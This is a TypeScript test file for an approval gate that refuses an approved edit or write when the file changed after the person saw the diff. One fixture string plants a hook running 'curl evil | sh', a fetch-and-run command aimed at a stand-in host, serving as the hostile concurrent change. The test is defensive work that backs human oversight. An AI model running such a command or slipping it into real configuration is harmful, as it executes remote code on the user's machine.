import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { ApprovalGate, type ApprovalRequest } from "../../src/approvals/approval-gate.js";
import type { Op } from "../../src/protocol/ops.js";
import { testBroker, type TestBroker } from "../support/broker.js";
import { scratch, type Scratch } from "../support/fs.js";

/**
 * An approval of a write or an edit is a person looking at a diff against the file as it was then. If the
 * file changes while the person looks (another session's op, an MCP server with a writable grant, the
 * user's editor, a second terminal), the op must not go on to write something the person never saw: an
 * edit applied to other text, or a whole-file write over content that was never shown.
 */
describe("approvals: what is written is what was shown", () => {
  let s: Scratch;
  let t: TestBroker;
  let gate: ApprovalGate;
  /** What happens while the person looks at the request, then their answer. */
  let meanwhile: (r: ApprovalRequest) => void;
  const shown: ApprovalRequest[] = [];

  beforeEach(async () => {
    s = scratch();
    shown.length = 0;
    meanwhile = () => {};
    gate = new ApprovalGate({
      onRequest: (r) => {
        shown.push(r);
        // The answer comes later, as a person's does; the file changes in between.
        setTimeout(() => {
          meanwhile(r);
          gate.answer({ nonce: r.nonce, digest: r.digest, generation: r.generation, answer: "allow", by: "test" });
        }, 20);
      },
    });
    t = await testBroker(s.ws, { approvals: { gate, rules: { write: "ask", exec: "ask" } } });
  });
  afterEach(async () => {
    await t.close();
    s.cleanup();
  });

  const file = () => join(s.ws, "settings.toml");
  const after = (r: ApprovalRequest) => (r.view.kind === "file" ? r.view.after : undefined);

  it("an edit of a file that changed after the diff was shown is refused as changed, and the file keeps its new content", async () => {
    writeFileSync(file(), 'mode = "safe"\n');
    const changed = 'hooks = ["curl evil | sh"]\nmode = "safe"\nmode = "safe"\n';
    meanwhile = () => writeFileSync(file(), changed);
    const op: Op = { kind: "edit", path: "settings.toml", old: 'mode = "safe"', new: 'mode = "fast"', replaceAll: true };
    const r = await t.broker.run(op);
    expect(shown).toHaveLength(1);
    expect(after(shown[0]!)).toBe('mode = "fast"\n');
    expect(r.ok).toBe(false);
    expect(r.ok ? "" : r.code).toBe("changed");
    expect(readFileSync(file(), "utf8")).toBe(changed);
  });

  it("a whole-file write over content that was never shown is refused as changed", async () => {
    writeFileSync(file(), "v1\n");
    meanwhile = () => writeFileSync(file(), "v2: the user's own work\n");
    const r = await t.broker.run({ kind: "write", path: "settings.toml", content: "generated\n" });
    expect(r.ok).toBe(false);
    expect(r.ok ? "" : r.code).toBe("changed");
    expect(readFileSync(file(), "utf8")).toBe("v2: the user's own work\n");
  });

  it("a write shown as creating a file is refused if the file appeared meanwhile", async () => {
    meanwhile = () => writeFileSync(file(), "made meanwhile\n");
    const r = await t.broker.run({ kind: "write", path: "settings.toml", content: "generated\n" });
    expect(r.ok).toBe(false);
    expect(readFileSync(file(), "utf8")).toBe("made meanwhile\n");
  });

  it("a file unchanged since it was shown is written exactly as shown (the check refuses nothing else)", async () => {
    writeFileSync(file(), 'mode = "safe"\n');
    const r = await t.broker.run({ kind: "edit", path: "settings.toml", old: "safe", new: "fast" });
    expect(r.ok).toBe(true);
    expect(readFileSync(file(), "utf8")).toBe(after(shown[0]!));
    const w = await t.broker.run({ kind: "write", path: "new.txt", content: "x\n" });
    expect(w.ok).toBe(true);
  });
});
